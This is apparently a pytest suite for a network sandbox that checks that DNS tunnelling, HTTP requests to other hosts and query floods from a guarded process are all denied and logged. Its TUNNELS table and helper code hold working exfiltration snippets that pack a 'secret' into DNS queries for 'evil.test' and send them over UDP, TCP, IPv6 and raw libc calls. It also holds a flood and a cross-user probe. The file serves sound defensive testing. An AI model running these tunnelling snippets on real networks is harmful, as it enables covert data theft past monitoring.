"""A guest that wants to get data out by names, or to be answered as somebody else: whatever way, no packet leaves."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from typing import Any

import pytest

from tests.support.guard import Result, run_guarded
from tests.support.isolation import Namespace, missing

pytestmark = [pytest.mark.kernel, pytest.mark.hostile, pytest.mark.skipif(bool(missing()), reason=missing())]

RULES = """\
version: 1
default: deny
rules:
  - {allow: exec}
  - {log: dns, to: "*.good.test", private: true}
"""

#: A Python without the guard's hook, so that the wall alone is in the way.
PLAIN = ("sh", "-c", 'exec "$@"', "sh", sys.executable, "-I", "-S", "-c")

BY_HAND = """
import ctypes, errno, os, socket, struct, sys
def query(name, kind=16, number=0x1234):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">6H", number, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", kind, 1)
def udp(family=socket.AF_INET):
    made = socket.socket(family, socket.SOCK_DGRAM); made.settimeout(1); return made
def attempt(act):
    try: print(act())
    except OSError as error: print(errno.errorcode.get(error.errno, error))
SECRET = query(("secret" * 9 + ".") * 3 + "evil.test")
SYSTEM, OTHER = ("192.0.2.53", 53), ("198.51.100.5", 53)
libc = ctypes.CDLL(None, use_errno=True)
def inet(family, host): return struct.pack("<H", family) + struct.pack(">H", 53) + socket.inet_aton(host) + bytes(8)
"""

#: How a secret is to reach some name server; each does where nobody guards.
TUNNELS = {
    "long labels": "s = udp(); s.connect(SYSTEM); attempt(lambda: (s.send(SECRET), s.recv(999))[0])",
    "another server": "s = udp(); s.connect(OTHER); attempt(lambda: (s.send(SECRET), s.recv(999))[0])",
    "not connected": "s = udp(); attempt(lambda: s.sendto(SECRET, SYSTEM)); attempt(lambda: s.recv(999))",
    "not connected, another": "s = udp(); attempt(lambda: s.sendto(SECRET, OTHER)); attempt(lambda: s.recv(999))",
    "message": "s = udp(); attempt(lambda: s.sendmsg([SECRET], [], 0, SYSTEM)); attempt(lambda: s.recv(999))",
    "by no family": "s = udp(); print(libc.sendto(s.fileno(), SECRET, len(SECRET), 0, inet(0, OTHER[0]), 16))",
    "behind IPv6": """
s = udp(10); s.connect(("::ffff:198.51.100.5", 53)); attempt(lambda: (s.send(SECRET), s.recv(999))[0])""",
    "IPv4 on IPv6": "s = udp(10); print(libc.sendto(s.fileno(), SECRET, len(SECRET), 0, inet(2, OTHER[0]), 16))",
    "IPv6": 's = udp(10); s.connect(("2001:db8::5", 53)); attempt(lambda: (s.send(SECRET), s.recv(999))[0])',
    "no address": 's = udp(); s.connect(("0.0.0.0", 53)); attempt(lambda: (s.send(SECRET), s.recv(999))[0])',
    "no query": 's = udp(); s.connect(OTHER); attempt(lambda: (s.send(b"secret evil"), s.recv(999))[0])',
    "no query, not connected": 's = udp(); attempt(lambda: s.sendto(b"secret evil", SYSTEM))',
    "HTTP over TCP": """
s = socket.create_connection(OTHER, timeout=5)
attempt(lambda: (s.sendall(b"GET /secret HTTP/1.0\\r\\n\\r\\n"), s.recv(99))[1][:0])""",
    "query over TCP": """
s = socket.create_connection(SYSTEM, timeout=5)
attempt(lambda: (s.sendall(len(SECRET).to_bytes(2, "big") + SECRET), s.recv(99))[1][:0])""",
    "TCP at once": """
s = socket.socket(); attempt(lambda: s.sendto(b"GET /secret\\r\\n\\r\\n", 0x20000000, OTHER))
s.settimeout(5); attempt(lambda: s.recv(99)[:0])""",
}


@pytest.fixture(scope="module")
def space() -> Iterator[Namespace]:
    with Namespace(anywhere=True, server="192.0.2.53") as made:
        yield made


@pytest.fixture(scope="module")
def servers(space: Namespace) -> list[Any]:
    """Name servers at every address."""
    four = space.open("dns", names={"*": ["192.0.2.1"]}, host="0.0.0.0", port=53)
    return [four, *[space.open("tcp", host=host, port=53) for host in ("0.0.0.0",)]]


def arrived(servers: list[Any]) -> int:
    """How much of a secret has reached a server so far."""
    text = "".join(str(server.seen()) for server in servers)
    return text.count("secret")


def run(space: Namespace, code: str, rules: str = RULES, **options: Any) -> Result:
    return run_guarded(["--", *PLAIN, BY_HAND + code], rules=rules, within=space, **options)


@pytest.mark.parametrize("way", TUNNELS)
def test_no_tunnel(way: str, space: Namespace, servers: list[Any]) -> None:
    if "no query" not in way and way != "IPv6":  # what is no query breaks the test's server; it has no IPv6
        before = arrived(servers)
        command = [sys.executable, "-I", "-S", "-c", BY_HAND + TUNNELS[way]]
        subprocess.run(space.command(command), capture_output=True, check=True, timeout=30)
        assert arrived(servers) > before, "the control"
    before = arrived(servers)
    result = run(space, TUNNELS[way])
    assert "Traceback" not in result.stderr, result.stderr
    assert arrived(servers) == before
    assert {(line["kind"], line["verdict"]) for line in result.trail if line.get("verdict")} == {("dns", "deny")}


def test_port_of_anothers_question_is_not_enough(space: Namespace, servers: list[Any]) -> None:
    """Nobody in the run reaches the responder but by a question to a name server."""
    result = run(
        space,
        """
mine = udp(); mine.setsockopt(1, 2, 1); mine.connect(SYSTEM); proxy = mine.getpeername(); port = mine.getsockname()
mine.send(query("a.good.test", 1)); print(len(mine.recv(999)) > 30)
other = udp(); other.setsockopt(1, 2, 1)
attempt(lambda: other.bind(port))
attempt(lambda: other.sendto(query("b.good.test", 1), proxy))
attempt(lambda: other.connect(proxy))
attempt(lambda: socket.create_connection(proxy))
""",
        rules=RULES + "  - {allow: [connect, listen], to: '@loopback'}\n",
    )
    lines = result.stdout.splitlines()
    assert lines[0] == "True", result.stderr
    assert lines[2:] == ["ECONNREFUSED"] * 3
    assert [line["dns"]["name"] for line in result.lines("dns")] == ["a.good.test"]


OUTSIDE = """
import os, socket, sys, time
sys.path.insert(0, "")
while not os.path.exists(sys.argv[1] + "/port"): time.sleep(0.01)
host, port = open(sys.argv[1] + "/port").read().split()
query = bytes.fromhex("123401000001000000000000") + b"\\x01a\\x04good\\x04test\\0" + bytes.fromhex("00010001")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(query, (host, int(port)))
try: said = repr(s.recv(999))
except OSError as error: said = type(error).__name__
t = socket.create_connection((host, int(port)), timeout=5)
try:
    t.sendall(len(query).to_bytes(2, "big") + query); said += " " + repr(t.recv(999))
except OSError as error: said += " " + type(error).__name__
open(sys.argv[1] + "/said", "w").write(said)
"""


def test_outsider_gets_nothing(space: Namespace, servers: list[Any], tmp_path: Any) -> None:
    """Another user of the machine who knows the responder's port, which anybody can read from /proc."""
    if os.geteuid() != 0 or not shutil.which("setpriv"):
        pytest.skip("root, and the program setpriv, to become another user")
    python = "/usr/bin/python3"
    if not os.access(python, os.X_OK):
        pytest.skip("a Python that another user can run")
    tmp_path.chmod(0o777)
    for parent in list(tmp_path.parents)[:2]:
        parent.chmod(parent.stat().st_mode | 0o011)
    other = ["setpriv", "--reuid=65534", "--clear-groups", python, "-I", "-c", OUTSIDE, str(tmp_path)]
    with subprocess.Popen(space.command(other)) as outsider:
        result = run(
            space,
            f"""
import time
s = udp(); s.connect(SYSTEM); s.send(query("a.good.test", 1)); print(len(s.recv(999)) > 30)
open({str(tmp_path)!r} + "/new", "w").write("%s %d" % s.getpeername())
os.rename({str(tmp_path)!r} + "/new", {str(tmp_path)!r} + "/port")
while not os.path.exists({str(tmp_path)!r} + "/said"): time.sleep(0.01)
""",
        )
        outsider.wait(30)
    assert result.stdout == "True\n", result.stderr
    assert (tmp_path / "said").read_text() in ("TimeoutError b''", "TimeoutError ConnectionResetError")
    assert len(result.lines("dns")) == 1


def test_flood_leaves_others_their_answers(space: Namespace, servers: list[Any]) -> None:
    """Questions without end, and no question at all, over both; who asks one is answered all the same."""
    result = run(
        space,
        """
import time
child = os.fork()
if not child:
    s = udp(); s.connect(SYSTEM); s.setblocking(False)
    t = socket.create_connection(SYSTEM); t.setblocking(False); q = query("b.good.test", 1)
    end = time.monotonic() + 3
    while time.monotonic() < end:
        for data in (b"\\0" * 9, q, b"", b"x" * 9999, SECRET):
            try: s.send(data)
            except OSError: pass
        try: t.send((len(q).to_bytes(2, "big") + q) * 500)
        except OSError: pass
    os._exit(0)
answered = 0
begun = time.monotonic()
for number in range(20):
    s = udp(); s.settimeout(2)
    for _ in range(5):
        s.connect(SYSTEM); s.send(query(f"n{number}.good.test", 1))
        try: s.recv(999)
        except OSError: continue
        answered += 1
        break
print(answered)
os.waitpid(child, 0)
many = [socket.create_connection(SYSTEM) for _ in range(200)]  # each more takes the idlest one's place
q = query("a.good.test", 1); many[-1].settimeout(9); many[-1].sendall(len(q).to_bytes(2, "big") + q)
print(len(many[-1].recv(999)) > 30)
""",
        timeout=60,
    )
    assert result.stdout == "20\nTrue\n", result.stderr
    assert len(result.lines("dns")) < 40, "a line for each act, and not for each packet"
    assert not result.lines("tamper")


def test_child_of_another_user_is_itself(space: Namespace, servers: list[Any]) -> None:
    if os.geteuid() != 0:
        pytest.skip("root, to become another user")
    rules = RULES.replace("log: dns,", "log: dns, user: root,")
    result = run(
        space,
        """
def ask():
    s = udp(); s.connect(SYSTEM); s.send(query("a.good.test", 1)); return s.recv(999)[3] & 15
print(ask(), flush=True)
s = udp(); s.connect(SYSTEM)
if not os.fork():
    os.setgroups([]); os.setgid(65534); os.setuid(65534)
    libc.prctl(4, 1)
    print(ask(), flush=True)
    os._exit(0)
os.wait()
""",
        rules=rules,
    )
    assert result.stdout.split() == ["0", "3"], result.stderr
    assert [(line["proc"]["user"], line["verdict"]) for line in result.lines("dns")] == [
        ("root", "log"), ("nobody", "deny"),
    ]  # fmt: skip
